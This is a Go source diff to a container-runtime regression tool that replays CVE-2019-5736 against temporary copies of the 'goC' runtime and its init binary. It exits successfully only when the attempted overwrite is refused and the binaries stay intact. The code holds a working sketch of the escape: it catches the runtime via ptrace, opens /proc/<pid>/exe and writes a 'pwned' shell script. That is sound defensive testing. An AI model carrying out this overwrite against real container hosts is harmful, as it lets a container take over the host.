@@ -14,7 +14,9 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// exe-attack GOC ROOTFS replays CVE-2019-5736 against a copy of GOC.
+// exe-attack GOC ARGS… replays CVE-2019-5736 against a copy of GOC (and
+// of the goC-init beside it, from stage 4 on), run with ARGS (run ROOTFS
+// /bin/true, or exec ID /bin/true).
 //
 // A hostile container gets hold of the runtime binary that enters it: it
 // opens /proc/<pid>/exe (O_PATH) of the runtime's process while that runs
@@ -23,23 +25,35 @@ import (
 // container's root: it stops the process goC starts in the namespaces at
 // its first exec (ptrace), takes the same O_PATH descriptor, lets
 // everything run to the end and then tries the write. It prints what
-// happened and exits 0 only if the write failed and the binary is intact.
+// happened and exits 0 only if the write failed and the binaries are intact.
 func exeAttack() {
-	if len(os.Args) != 3 {
-		fatalf("usage: exe-attack goC rootfs")
+	if len(os.Args) < 3 {
+		fatalf("usage: exe-attack goC args…")
 	}
 	src, err := exec.LookPath(os.Args[1])
+	if err == nil {
+		src, err = filepath.EvalSymlinks(src)
+	}
 	if err != nil {
 		fatalf("exe-attack: %v", err)
 	}
-	// Attack a copy: a vulnerable goC must not take the binary under test
-	// down with it.
-	victim := filepath.Join(os.TempDir(), fmt.Sprintf("goC-victim-%d", os.Getpid()))
-	copyFile(src, victim)
-	defer os.Remove(victim)
-	before := digest(victim)
+	// Attack copies: a vulnerable goC must not take the binaries under
+	// test down with it.
+	dir, err := os.MkdirTemp("", "goC-victim-")
+	if err != nil {
+		fatalf("exe-attack: %v", err)
+	}
+	defer os.RemoveAll(dir)
+	var victims []string
+	for _, name := range []string{"goC", "goC-init"} {
+		if _, err := os.Stat(filepath.Join(filepath.Dir(src), name)); err == nil {
+			victims = append(victims, filepath.Join(dir, name))
+			copyFile(filepath.Join(filepath.Dir(src), name), victims[len(victims)-1])
+		}
+	}
+	before := digest(victims...)
 
-	fd, link, status := traceFirstExec(victim, "run", os.Args[2], "/bin/true")
+	fd, link, status := traceFirstExec(victims[0], os.Args[2:]...)
 	if fd < 0 {
 		fatalf("exe-attack: never saw goC's init exec (goC exited %d)", status)
 	}
@@ -50,7 +64,7 @@ func exeAttack() {
 		_, err = w.Write([]byte("#!/bin/sh\necho pwned\n"))
 		w.Close()
 	}
-	intact := bytes.Equal(before, digest(victim))
+	intact := bytes.Equal(before, digest(victims...))
 	switch {
 	case err != nil && intact:
 		fmt.Printf("write refused: %v\nhost binary intact\n", err)
@@ -140,11 +154,15 @@ func copyFile(src, dst string) {
 	}
 }
 
-func digest(p string) []byte {
-	b, err := os.ReadFile(p)
-	if err != nil {
-		fatalf("read %s: %v", p, err)
+// digest is the checksum of the files' contents, one after the other.
+func digest(files ...string) []byte {
+	h := sha256.New()
+	for _, p := range files {
+		b, err := os.ReadFile(p)
+		if err != nil {
+			fatalf("read %s: %v", p, err)
+		}
+		h.Write(b)
 	}
-	sum := sha256.Sum256(b)
-	return sum[:]
+	return h.Sum(nil)
 }
